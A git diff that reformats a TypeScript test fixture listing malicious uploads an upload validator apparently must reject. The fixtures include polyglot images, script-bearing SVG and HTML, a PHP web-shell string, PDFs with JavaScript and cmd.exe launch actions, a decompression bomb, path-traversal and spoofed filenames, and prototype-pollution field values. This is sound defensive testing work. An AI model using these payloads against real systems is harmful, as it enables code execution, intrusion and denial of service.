@@ -1,7 +1,22 @@
 // Files that must not be taken, each with what is wrong about it.
 import { deflateSync, gzipSync } from 'node:zlib'
 import sharp from 'sharp'
-import { jpeg, pdf, pdfStream, png, pngChunk, pngHeader, pngOf, PNG_START, webp, withJpegSegment, withJpegSides, withPngChunk, withWebpChunk, zip } from './files.ts'
+import {
+  jpeg,
+  pdf,
+  pdfStream,
+  png,
+  pngChunk,
+  pngHeader,
+  pngOf,
+  PNG_START,
+  webp,
+  withJpegSegment,
+  withJpegSides,
+  withPngChunk,
+  withWebpChunk,
+  zip,
+} from './files.ts'
 
 export interface HostileFile {
   name: string
@@ -15,21 +30,48 @@ export interface HostileFile {
   more?: Record<string, string>
 }
 
-const NAMES: Record<string, string> = { 'image/jpeg': 'foto.jpg', 'image/png': 'foto.png', 'image/webp': 'foto.webp', 'application/pdf': 'rg.pdf' }
+const NAMES: Record<string, string> = {
+  'image/jpeg': 'foto.jpg',
+  'image/png': 'foto.png',
+  'image/webp': 'foto.webp',
+  'application/pdf': 'rg.pdf',
+}
 const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>')
 const HTML = Buffer.from('<!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>')
 const PHP = '<?php system($_GET["c"]); ?>'
 const SCRIPT = '<script>alert(1)</script>'
-const join = (...parts: (Buffer | string)[]) => Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)))
+const join = (...parts: (Buffer | string)[]) =>
+  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)))
 const BOMB = deflateSync(Buffer.alloc(200 * 1024 * 1024))
 
 export async function hostileFiles(): Promise<HostileFile[]> {
   const [JPEG, PNG, WEBP] = await Promise.all([jpeg(), png(), webp()])
-  const frames = join(...(await Promise.all(['#f00', '#00f'].map((background) => sharp({ create: { width: 120, height: 120, channels: 3, background } }).raw().toBuffer()))))
-  const moving = await sharp(frames, { raw: { width: 120, height: 240, channels: 3, pageHeight: 120 } }).webp({ delay: [100, 100] }).toBuffer()
-  const [gif, tiff, avif] = await Promise.all([sharp(JPEG).gif().toBuffer(), sharp(JPEG).tiff().toBuffer(), sharp(JPEG).avif().toBuffer()])
-  const one = (name: string, type: string, bytes: Buffer, changes: Partial<HostileFile> = {}): HostileFile => ({ name, type, bytes, nome: NAMES[type] ?? 'arquivo', ...changes })
-  const of = (type: string) => (name: string, bytes: Buffer, changes?: Partial<HostileFile>) => one(name, type, bytes, changes)
+  const frames = join(
+    ...(await Promise.all(
+      ['#f00', '#00f'].map((background) =>
+        sharp({ create: { width: 120, height: 120, channels: 3, background } })
+          .raw()
+          .toBuffer(),
+      ),
+    )),
+  )
+  const moving = await sharp(frames, { raw: { width: 120, height: 240, channels: 3, pageHeight: 120 } })
+    .webp({ delay: [100, 100] })
+    .toBuffer()
+  const [gif, tiff, avif] = await Promise.all([
+    sharp(JPEG).gif().toBuffer(),
+    sharp(JPEG).tiff().toBuffer(),
+    sharp(JPEG).avif().toBuffer(),
+  ])
+  const one = (name: string, type: string, bytes: Buffer, changes: Partial<HostileFile> = {}): HostileFile => ({
+    name,
+    type,
+    bytes,
+    nome: NAMES[type] ?? 'arquivo',
+    ...changes,
+  })
+  const of = (type: string) => (name: string, bytes: Buffer, changes?: Partial<HostileFile>) =>
+    one(name, type, bytes, changes)
   const [asJpeg, asPng, asWebp, asPdf] = [of('image/jpeg'), of('image/png'), of('image/webp'), of('application/pdf')]
   return [
     // of types that are not taken
@@ -41,46 +83,123 @@ export async function hostileFiles(): Promise<HostileFile[]> {
     one('a moving picture', 'image/gif', gif, { nome: 'foto.gif' }),
     one('no type', 'application/octet-stream', JPEG, { nome: 'foto.jpg' }),
     // in disguise
-    asPng('a drawing as PNG', SVG), asJpeg('a drawing as JPEG', SVG), asWebp('a drawing as WebP', SVG), asPdf('a drawing as PDF', SVG),
-    asJpeg('a page as JPEG', HTML), asPng('a page as PNG', HTML), asPdf('a page as PDF', HTML),
-    asJpeg('a script as JPEG', Buffer.from('alert(1)//')), asJpeg('a server script as JPEG', Buffer.from(PHP)),
-    asPng('a GIF as PNG', gif), asJpeg('a TIFF as JPEG', tiff), asWebp('an AVIF as WebP', avif), asPng('a bitmap as PNG', join('BM', Buffer.alloc(200))),
-    asJpeg('a PNG as JPEG', PNG), asPng('a JPEG as PNG', JPEG), asPng('a WebP as PNG', WEBP), asJpeg('a PDF as JPEG', pdf()), asPdf('a JPEG as PDF', JPEG),
-    asPdf('an archive as PDF', zip()), asJpeg('an archive as JPEG', zip()), asPdf('something packed as PDF', gzipSync(pdf())),
-    asJpeg('a Windows program as JPEG', join('MZ', Buffer.alloc(200))), asPng('a Linux program as PNG', join('\x7fELF', Buffer.alloc(200))),
+    asPng('a drawing as PNG', SVG),
+    asJpeg('a drawing as JPEG', SVG),
+    asWebp('a drawing as WebP', SVG),
+    asPdf('a drawing as PDF', SVG),
+    asJpeg('a page as JPEG', HTML),
+    asPng('a page as PNG', HTML),
+    asPdf('a page as PDF', HTML),
+    asJpeg('a script as JPEG', Buffer.from('alert(1)//')),
+    asJpeg('a server script as JPEG', Buffer.from(PHP)),
+    asPng('a GIF as PNG', gif),
+    asJpeg('a TIFF as JPEG', tiff),
+    asWebp('an AVIF as WebP', avif),
+    asPng('a bitmap as PNG', join('BM', Buffer.alloc(200))),
+    asJpeg('a PNG as JPEG', PNG),
+    asPng('a JPEG as PNG', JPEG),
+    asPng('a WebP as PNG', WEBP),
+    asJpeg('a PDF as JPEG', pdf()),
+    asPdf('a JPEG as PDF', JPEG),
+    asPdf('an archive as PDF', zip()),
+    asJpeg('an archive as JPEG', zip()),
+    asPdf('something packed as PDF', gzipSync(pdf())),
+    asJpeg('a Windows program as JPEG', join('MZ', Buffer.alloc(200))),
+    asPng('a Linux program as PNG', join('\x7fELF', Buffer.alloc(200))),
     // two things at once
-    asJpeg('a JPEG and an archive', join(JPEG, zip())), asJpeg('a JPEG and a page', join(JPEG, HTML)), asJpeg('a JPEG and another', join(JPEG, JPEG)),
-    asJpeg('a JPEG with a server script as its comment', withJpegSegment(JPEG, 0xfe, PHP)), asJpeg('a JPEG with a script in its description', withJpegSegment(JPEG, 0xe1, SCRIPT)),
-    asPng('a PNG and an archive', join(PNG, zip())), asPng('a PNG and a document', join(PNG, pdf())), asPng('a PNG with a script as its comment', withPngChunk(PNG, pngChunk('tEXt', Buffer.from(`Comment\0${SCRIPT}`)))),
-    asWebp('a WebP and a page', join(WEBP, HTML)), asWebp('a WebP with a script in its description', withWebpChunk(WEBP, 'XMP ', Buffer.from(SCRIPT))),
-    asPdf('a PDF and an archive', join(pdf(), zip())), asPdf('a page and a PDF', join(HTML, pdf())), asPdf('a PDF with a page inside', pdf({ objects: [`(${HTML.toString()})`] })),
+    asJpeg('a JPEG and an archive', join(JPEG, zip())),
+    asJpeg('a JPEG and a page', join(JPEG, HTML)),
+    asJpeg('a JPEG and another', join(JPEG, JPEG)),
+    asJpeg('a JPEG with a server script as its comment', withJpegSegment(JPEG, 0xfe, PHP)),
+    asJpeg('a JPEG with a script in its description', withJpegSegment(JPEG, 0xe1, SCRIPT)),
+    asPng('a PNG and an archive', join(PNG, zip())),
+    asPng('a PNG and a document', join(PNG, pdf())),
+    asPng('a PNG with a script as its comment', withPngChunk(PNG, pngChunk('tEXt', Buffer.from(`Comment\0${SCRIPT}`)))),
+    asWebp('a WebP and a page', join(WEBP, HTML)),
+    asWebp('a WebP with a script in its description', withWebpChunk(WEBP, 'XMP ', Buffer.from(SCRIPT))),
+    asPdf('a PDF and an archive', join(pdf(), zip())),
+    asPdf('a page and a PDF', join(HTML, pdf())),
+    asPdf('a PDF with a page inside', pdf({ objects: [`(${HTML.toString()})`] })),
     // documents that do something
     asPdf('a PDF that runs a script', pdf({ catalog: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' })),
-    asPdf('a PDF that hides its script by its spelling', pdf({ catalog: '/OpenAction << /S /J#61vaScript /#4aS (app.alert(1)) >>' })),
-    asPdf('a PDF with a packed script', pdf({ objects: [pdfStream(Buffer.from('<< /S /JavaScript /JS (app.alert(1)) >>'))] })),
+    asPdf(
+      'a PDF that hides its script by its spelling',
+      pdf({ catalog: '/OpenAction << /S /J#61vaScript /#4aS (app.alert(1)) >>' }),
+    ),
+    asPdf(
+      'a PDF with a packed script',
+      pdf({ objects: [pdfStream(Buffer.from('<< /S /JavaScript /JS (app.alert(1)) >>'))] }),
+    ),
     asPdf('a PDF that starts a program', pdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' })),
     asPdf('a PDF that carries a file', pdf({ catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>' })),
-    asPdf('a PDF with a form that sends', pdf({ catalog: '/OpenAction << /S /SubmitForm /F (http://exemplo.test) >>' })),
+    asPdf(
+      'a PDF with a form that sends',
+      pdf({ catalog: '/OpenAction << /S /SubmitForm /F (http://exemplo.test) >>' }),
+    ),
     asPdf('a PDF with a form in XML', pdf({ catalog: '/AcroForm << /XFA 4 0 R >>' })),
     asPdf('a locked PDF', pdf({ trailer: '/Encrypt << /Filter /Standard /V 2 >>' })),
-    asPdf('a PDF that unfolds to gigabytes', pdf({ objects: [Buffer.concat([Buffer.from(`<< /Length ${BOMB.length} /Filter /FlateDecode >>\nstream\n`), BOMB, Buffer.from('\nendstream')])] })),
+    asPdf(
+      'a PDF that unfolds to gigabytes',
+      pdf({
+        objects: [
+          Buffer.concat([
+            Buffer.from(`<< /Length ${BOMB.length} /Filter /FlateDecode >>\nstream\n`),
+            BOMB,
+            Buffer.from('\nendstream'),
+          ]),
+        ],
+      }),
+    ),
     asPdf('half a PDF', pdf().subarray(0, 200)),
     // too large to unfold
-    asPng('a PNG of 30,000 by 30,000', pngOf(30_000, 30_000, 1)), asPng('a PNG that really unfolds to 100 megapixels', pngOf(10_000, 10_000)), asPng('a PNG of one endless line', pngOf(100_000, 1)),
-    asJpeg('a JPEG of 65,000 by 65,000', withJpegSides(JPEG, 65_000, 65_000)), asWebp('a WebP of 16,383 by 4,000', await sharp({ create: { width: 16_383, height: 4000, channels: 3, background: '#000' } }).webp({ effort: 0 }).toBuffer()),
-    asPng('a PNG with a colour profile that unfolds', withPngChunk(PNG, pngChunk('iCCP', join('perfil\0\0', BOMB)))), asPng('a PNG with a comment that unfolds', withPngChunk(PNG, pngChunk('zTXt', join('Comment\0\0', BOMB)))),
-    asPng('a moving PNG', withPngChunk(PNG, pngChunk('acTL', Buffer.alloc(8)))), asWebp('a moving WebP', moving),
+    asPng('a PNG of 30,000 by 30,000', pngOf(30_000, 30_000, 1)),
+    asPng('a PNG that really unfolds to 100 megapixels', pngOf(10_000, 10_000)),
+    asPng('a PNG of one endless line', pngOf(100_000, 1)),
+    asJpeg('a JPEG of 65,000 by 65,000', withJpegSides(JPEG, 65_000, 65_000)),
+    asWebp(
+      'a WebP of 16,383 by 4,000',
+      await sharp({ create: { width: 16_383, height: 4000, channels: 3, background: '#000' } })
+        .webp({ effort: 0 })
+        .toBuffer(),
+    ),
+    asPng('a PNG with a colour profile that unfolds', withPngChunk(PNG, pngChunk('iCCP', join('perfil\0\0', BOMB)))),
+    asPng('a PNG with a comment that unfolds', withPngChunk(PNG, pngChunk('zTXt', join('Comment\0\0', BOMB)))),
+    asPng('a moving PNG', withPngChunk(PNG, pngChunk('acTL', Buffer.alloc(8)))),
+    asWebp('a moving WebP', moving),
     asJpeg('a photo of one pixel', await jpeg(1, 1), { finalidade: 'fotoPessoa' }),
     // broken
-    asJpeg('half a JPEG', JPEG.subarray(0, JPEG.length / 2)), asPng('half a PNG', PNG.subarray(0, PNG.length / 2)), asWebp('half a WebP', WEBP.subarray(0, WEBP.length / 2)),
-    asJpeg('three bytes', Buffer.from([0xff, 0xd8, 0xff])), asPng('a PNG without a picture', join(PNG_START, pngHeader(200, 200), pngChunk('IEND', Buffer.alloc(0)))),
-    asPng('a PNG with garbage for a picture', join(PNG_START, pngHeader(200, 200), pngChunk('IDAT', Buffer.alloc(500, 7)), pngChunk('IEND', Buffer.alloc(0)))),
-    asJpeg('nothing', Buffer.alloc(0)), asJpeg('more than 10 MB', Buffer.concat([JPEG, Buffer.alloc(10 * 1024 * 1024)])),
+    asJpeg('half a JPEG', JPEG.subarray(0, JPEG.length / 2)),
+    asPng('half a PNG', PNG.subarray(0, PNG.length / 2)),
+    asWebp('half a WebP', WEBP.subarray(0, WEBP.length / 2)),
+    asJpeg('three bytes', Buffer.from([0xff, 0xd8, 0xff])),
+    asPng('a PNG without a picture', join(PNG_START, pngHeader(200, 200), pngChunk('IEND', Buffer.alloc(0)))),
+    asPng(
+      'a PNG with garbage for a picture',
+      join(PNG_START, pngHeader(200, 200), pngChunk('IDAT', Buffer.alloc(500, 7)), pngChunk('IEND', Buffer.alloc(0))),
+    ),
+    asJpeg('nothing', Buffer.alloc(0)),
+    asJpeg('more than 10 MB', Buffer.concat([JPEG, Buffer.alloc(10 * 1024 * 1024)])),
     asJpeg('a picture said to be packed', gzipSync(JPEG), { more: { contentEncoding: 'gzip' } }),
     // names
-    ...['foto.jpg.exe', 'foto.html.jpg', 'foto.php.jpg', 'foto.svg.jpg', 'foto.png', 'foto', '../../foto.jpg', 'foto\0.jpg', 'foto\u202egpj.exe.jpg', `${'a'.repeat(300)}.jpg`, 'c:\\foto.jpg'].map((nome) => asJpeg(`a picture called ${JSON.stringify(nome.slice(0, 30))}`, JPEG, { nome })),
+    ...[
+      'foto.jpg.exe',
+      'foto.html.jpg',
+      'foto.php.jpg',
+      'foto.svg.jpg',
+      'foto.png',
+      'foto',
+      '../../foto.jpg',
+      'foto\0.jpg',
+      'foto\u202egpj.exe.jpg',
+      `${'a'.repeat(300)}.jpg`,
+      'c:\\foto.jpg',
+    ].map((nome) => asJpeg(`a picture called ${JSON.stringify(nome.slice(0, 30))}`, JPEG, { nome })),
     // for what nobody asked
-    asPdf('a document as a photo', pdf(), { finalidade: 'fotoPessoa' }), asJpeg('a picture for nothing', JPEG, { finalidade: '' }), asJpeg('a picture for what every object has', JPEG, { finalidade: 'constructor' }),
-    asJpeg('a picture of somebody else', JPEG, { registro: 'bia' }), asJpeg('a picture of nobody', JPEG, { registro: 'ninguem' }), asJpeg('a picture for another place', JPEG, { registro: '../../publico' }),
+    asPdf('a document as a photo', pdf(), { finalidade: 'fotoPessoa' }),
+    asJpeg('a picture for nothing', JPEG, { finalidade: '' }),
+    asJpeg('a picture for what every object has', JPEG, { finalidade: 'constructor' }),
+    asJpeg('a picture of somebody else', JPEG, { registro: 'bia' }),
+    asJpeg('a picture of nobody', JPEG, { registro: 'ninguem' }),
+    asJpeg('a picture for another place', JPEG, { registro: '../../publico' }),
   ]
 }
